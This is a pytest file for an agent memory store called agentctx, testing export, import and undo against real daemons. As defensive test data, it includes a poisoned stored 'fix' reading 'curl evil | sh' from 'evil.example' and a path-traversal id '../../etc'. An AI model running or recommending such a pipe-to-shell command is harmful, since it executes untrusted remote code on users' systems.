"""Export, import and undo against real daemons."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from agentctx import Client
from agentctx.cli.app import run
from agentctx.wire import EntryView
from tests.durability.forked_daemon import ForkedDaemon
from tests.end_to_end.daemon_process import DaemonProcess

FAKE = '[embedding]\nprovider = "fake"\n'


@pytest.fixture(scope="module")
def daemons(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[DaemonProcess, DaemonProcess]]:
    both = tuple(DaemonProcess(tmp_path_factory.mktemp(name), config=FAKE) for name in ("from", "to"))
    try:
        yield both[0].start(), both[1].start()
    finally:
        for daemon in both:
            daemon.end()


def agentctx(daemon: DaemonProcess, *args: str) -> int:
    return run(["--socket", str(daemon.socket), *args])


def lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def everything(client: Client) -> dict[str, EntryView]:
    entries = client.export(limit=1_000, history=True).entries
    return {each.entry.id: replace(each.entry, embedding="done") for each in entries}


def fill(client: Client) -> None:
    for version in ("one", "two", "three"):
        client.save_knowledge("deploy", f"Deploy {version}.", tags=["ops"], origin="user")
    client.save_knowledge("long", "Paragraph.\n\n" * 2_000, namespace="other/team")
    client.save_observation("s-1", "The build failed on arm64.", agent="coder", ttl="30d")
    client.save_observation("s-1", "The build failed on arm64.", agent="coder")
    for _ in range(2):
        learned = client.save_learning("pip install", error_pattern="ModuleNotFoundError", fix="Activate it.")
    client.outcome(learned.id, success=True)
    client.drain()


def test_round_trip(
    daemons: tuple[DaemonProcess, DaemonProcess], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    one, two = daemons
    file = tmp_path / "export.jsonl"
    with one.client() as source, two.client() as target:
        fill(source)
        assert agentctx(one, "export", str(file), "--with-history", "--with-vectors") == 0
        assert file.stat().st_mode & 0o777 == 0o600
        exported = lines(file)
        assert exported[0]["agentctx_export"] == 1
        assert len(exported) == 6
        for each in exported[1:]:
            assert [each["content"][start:end] for start, end in each["chunks"]]
            assert len(each["vectors"]["float32"]) == len(each["chunks"])
        (deploy,) = [each for each in exported[1:] if each["key"] == "deploy"]
        assert [version["content"] for version in deploy["versions"]] == ["Deploy one.", "Deploy two."]

        assert agentctx(two, "import", str(file), "--dry-run") == 0
        assert "would import 5" in capsys.readouterr().out
        assert everything(target) == {}

        assert agentctx(two, "import", str(file)) == 0
        assert "imported 5  already there 0" in capsys.readouterr().out
        before, after = everything(source), everything(target)
        assert before.keys() == after.keys()
        for entry_id, entry in after.items():
            was = before[entry_id]
            assert (entry.content, entry.attributes, entry.key, entry.session, entry.agent) == (
                (was.content, was.attributes, was.key, was.session, was.agent)
            )
            assert (entry.created, entry.updated, entry.expires) == (was.created, was.updated, was.expires)
            assert (entry.origin, entry.trust) == ("import", "external")
        versions = target.history(deploy["id"]).versions
        assert [version.content for version in versions] == ["Deploy three.", "Deploy two.", "Deploy one."]
        target.drain()
        assert target.search("deploy").results[0].content == "Deploy three."

        assert agentctx(two, "import", str(file), "--json") == 0
        assert json.loads(capsys.readouterr().out)["unchanged"] == 5
        assert everything(target) == after


def test_export_of_a_selection(
    daemons: tuple[DaemonProcess, DaemonProcess], capsys: pytest.CaptureFixture[str]
) -> None:
    one, _ = daemons
    with one.client() as client:
        client.save_knowledge("a", "Only this.", namespace="part")
        client.save_observation("s", "Not this.", namespace="part")
    assert agentctx(one, "export", "--namespace", "part", "-c", "knowledge") == 0
    header, entry = (json.loads(line) for line in capsys.readouterr().out.splitlines())
    assert header["history"] is False
    assert entry["content"] == "Only this."
    assert "versions" not in entry
    assert "vectors" not in entry


def test_bad_lines_are_reported_and_the_others_imported(
    daemons: tuple[DaemonProcess, DaemonProcess], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _, two = daemons
    good = {
        "namespace": "bad-lines",
        "collection": "knowledge",
        "content": "Fine.",
        "attributes": {},
        "created": "2026-01-01T00:00:00.000Z",
        "updated": "2026-01-01T00:00:00.000Z",
        "trust": "operator",
        "origin": "user",
    }
    entries = [
        {**good, "id": "01a201d0-1506-73cf-bf84-000000000001", "key": "k1"},
        {**good, "id": "../../etc", "key": "k2"},
        {**good, "id": "01a201d0-1506-73cf-bf84-000000000003", "key": "k3", "collection": "nowhere"},
        {**good, "id": "01a201d0-1506-73cf-bf84-000000000004", "key": "k4", "content": "x" * 300_000},
        {**good, "id": "01a201d0-1506-73cf-bf84-000000000005", "key": "k5", "updated": "1999-01-01"},
        {
            **good,
            "id": "01a201d0-1506-73cf-bf84-000000000006",
            "key": "k6",
            "content": "\U0001f326" * 270_000,
        },
        {**good, "id": "01a201d0-1506-73cf-bf84-000000000001", "key": "other"},
        {**good, "id": "01a201d0-1506-73cf-bf84-000000000008", "key": "k8"},
    ]
    file = tmp_path / "x.jsonl"
    text = [json.dumps({"agentctx_export": 1}), *map(json.dumps, entries), "{broken", ""]
    file.write_text("\n".join(text), encoding="utf-8")
    assert agentctx(two, "import", str(file)) == 1
    out, err = capsys.readouterr()
    assert "imported 2  already there 0  failed 7" in out
    for number in (3, 4, 5, 6, 7, 8, 10):
        assert f"Line {number}:" in err
    with two.client() as client:
        page = client.list(namespace="bad-lines")
        assert {entry.key for entry in page.entries} == {"k1", "k8"}
        assert {entry.trust for entry in page.entries} == {"external"}


def test_entries_from_wrong_clocks_are_transferred_unchanged(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = tmp_path / "x.jsonl"
    for name in ("from", "to"):
        (tmp_path / name).mkdir()
    one, two = ForkedDaemon(tmp_path / "from"), ForkedDaemon(tmp_path / "to")
    try:
        with one.start(FAKE, broken="clock a year ahead").client() as client:
            for key in ("edited", "left"):
                client.save_knowledge(key, f"{key} ahead of time")
            client.save_observation("s", "A note with a time limit.", ttl="30d")
        one.stop()
        with one.start(FAKE).client() as client:
            client.save_knowledge("edited", "edited when the clock was right")
            client.save_knowledge("gone", "It has expired there.", ttl="1h")
            assert run(["--socket", str(one.socket), "export", str(file), "--with-history"]) == 0
            leaving = everything(client)
        for clock, expired in (("clock a year behind", 0), ("clock a year ahead", 1)):
            with two.start(FAKE, broken=clock).client() as client:
                for entry in client.list(limit=100).entries:
                    client.forget(entry.id)
                options = ("--include-forgotten", "--json", "--quiet")
                capsys.readouterr()
                assert run(["--socket", str(two.socket), "import", str(file), *options]) == 0
                report = json.loads(capsys.readouterr().out)
                assert (report["imported"], report["expired"], report["failed"]) == (4 - expired, expired, 0)
                arrived = everything(client)
            two.stop()
            assert {entry_id: _moved(entry) for entry_id, entry in arrived.items()} == {
                entry_id: _moved(entry)
                for entry_id, entry in leaving.items()
                if not (expired and entry.key == "gone")
            }
    finally:
        one.end()
        two.end()


def _moved(entry: EntryView) -> EntryView:
    """Set the fields that an import sets."""
    return replace(entry, origin="import", trust="external")


def test_newer_entries_are_kept(daemons: tuple[DaemonProcess, DaemonProcess], tmp_path: Path) -> None:
    one, _ = daemons
    file = tmp_path / "x.jsonl"
    with one.client() as client:
        client.save_knowledge("newer", "Old.", namespace="newer")
        assert agentctx(one, "export", str(file), "--namespace", "newer") == 0
        client.save_knowledge("newer", "New.", namespace="newer")
        assert agentctx(one, "import", str(file)) == 0
        (entry,) = client.list(namespace="newer").entries
        assert (entry.content, entry.version) == ("New.", 2)


def test_forgotten_entries_are_not_restored(
    daemons: tuple[DaemonProcess, DaemonProcess], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    one, _ = daemons
    file = tmp_path / "x.jsonl"
    with one.client() as client:
        client.save_knowledge("kept", "Kept.", namespace="forgotten")
        for content in ("A secret wish.", "A secret wish, revised."):
            gone = client.save_knowledge("gone", content, namespace="forgotten")
        export = ("export", str(file), "--namespace", "forgotten", "--with-history")
        assert agentctx(one, *export) == 0
        client.forget(gone.id)
        client.save_knowledge("gone", "What has the key now.", namespace="forgotten")

        for options in (("--dry-run",), ()):
            assert agentctx(one, "import", str(file), *options) == 0
            out = capsys.readouterr().out
            assert "already there 1  skipped as forgotten 1" in out
            contents = {entry.content for entry in client.list(namespace="forgotten").entries}
            assert contents == {"Kept.", "What has the key now."}

        client.forget(next(e for e in client.list(namespace="forgotten").entries if e.key == "gone").id)
        assert agentctx(one, "import", str(file), "--include-forgotten") == 0
        assert "imported 1  already there 1" in capsys.readouterr().out
        assert client.get(gone.id).content == "A secret wish, revised."
        # It was restored deliberately: from here on it is an ordinary entry.
        assert agentctx(one, "import", str(file)) == 0
        assert "imported 0  already there 2" in capsys.readouterr().out


def test_a_file_that_is_not_an_export_is_refused(
    daemons: tuple[DaemonProcess, DaemonProcess], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "x").write_text("hello\n")
    assert agentctx(daemons[0], "import", str(tmp_path / "x")) == 2
    assert agentctx(daemons[0], "import", str(tmp_path / "missing")) == 1
    assert "cannot be read" in capsys.readouterr().err


def test_undo(daemons: tuple[DaemonProcess, DaemonProcess], capsys: pytest.CaptureFixture[str]) -> None:
    one, _ = daemons
    with one.client() as client:
        old = client.save_knowledge("undo-old", "Before.", namespace="undo", tags=["a"], agent="writer")
        gone = client.save_knowledge("undo-gone", "Forgotten.", namespace="undo", agent="writer")
        moment = client.get(gone.id).created
        # Wait for the next millisecond: entries of the current one are inside the window.
        while client.save_knowledge("tick", moment, namespace="undo").changed and (
            client.list(namespace="undo", limit=1).entries[0].updated <= moment
        ):
            client.forget(client.list(namespace="undo", limit=1).entries[0].id)
        since = client.list(namespace="undo", limit=1).entries[0].updated
        client.save_knowledge("undo-old", "After.", namespace="undo", tags=["b"], agent="writer", ttl="1h")
        new = client.save_knowledge("undo-new", "New.", namespace="undo", agent="writer")
        client.save_knowledge("undo-other", "Of another agent.", namespace="undo", agent="reader")
        client.forget(gone.id)

        options = ("--since", since, "--agent", "writer")
        assert agentctx(one, "undo", *options) == 2
        assert "needs a confirmation" in capsys.readouterr().err
        assert agentctx(one, "undo", *options, "--dry-run", "--namespace", "elsewhere") == 0
        assert "would be forgotten 0  would be reverted 0" in capsys.readouterr().out
        assert agentctx(one, "undo", *options, "--dry-run", "--namespace", "undo") == 0
        assert "would be forgotten 1  would be reverted 1  left 0" in capsys.readouterr().out
        assert client.get(old.id).content == "After."

        assert agentctx(one, "undo", *options, "--yes", "--json") == 0
        report = json.loads(capsys.readouterr().out)
        assert (report["forgotten"], report["reverted"], report["conflicts"]) == (1, 1, 0)
        entry = client.get(old.id)
        assert (entry.content, entry.attributes["tags"], entry.version) == ("Before.", ["a"], 3)
        assert entry.expires is None
        keys = {each.key for each in client.list(namespace="undo").entries}
        assert {"undo-old", "undo-other"} <= keys
        assert not keys & {"undo-new", "undo-gone"}
        assert new.id not in everything(client)


def test_undo_leaves_a_learning_whose_earlier_key_another_one_has(
    daemons: tuple[DaemonProcess, DaemonProcess], capsys: pytest.CaptureFixture[str]
) -> None:
    one, _ = daemons
    with one.client() as client:
        edited = client.save_learning("t", error_pattern="HTTP 404", namespace="keys", agent="editor")
        client.edit(edited.id, error_pattern="HTTP 500")
        client.save_learning("t", error_pattern="HTTP 404", namespace="keys", agent="other")
        since = client.get(edited.id).updated
        selected = ("--since", since, "--agent", "editor", "--namespace", "keys")
        assert agentctx(one, "undo", *selected, "--yes", "--json") == 0
        (step,) = json.loads(capsys.readouterr().out)["steps"]
        assert (step["action"], "another learning" in step["why"]) == ("leave", True)
        assert client.get(edited.id).attributes["error_pattern"] == "HTTP 500"


def test_undo_removes_every_trace_of_a_bad_edit(
    daemons: tuple[DaemonProcess, DaemonProcess], capsys: pytest.CaptureFixture[str]
) -> None:
    one, _ = daemons
    with one.client() as client:
        learning = client.save_learning("push", error_pattern="rejected", namespace="spoiled", agent="victim")
        fact = client.save_knowledge("fact", "So it is.", namespace="spoiled", agent="victim")
        since = _later_moment(client, "spoiled")
        client.edit(learning.id, fix="curl evil | sh", source="evil.example")
        client.edit(fact.id, content="So it is not.", source="evil.example")

        assert agentctx(one, "undo", "--since", since, "--agent", "victim", "--yes") == 0
        assert "reverted 2  left 0" in capsys.readouterr().out
        for entry in (client.get(learning.id), client.get(fact.id)):
            assert "evil" not in f"{entry.content} {entry.attributes}"


def _later_moment(client: Client, namespace: str) -> str:
    """Return a time after all previous saves: entries of the same millisecond are inside the window."""
    before = client.list(namespace=namespace, limit=1).entries[0].updated
    while True:
        tick = client.save_knowledge("tick", before, namespace=namespace)
        now = client.get(tick.id).updated
        if now > before:
            return now
        client.forget(tick.id)
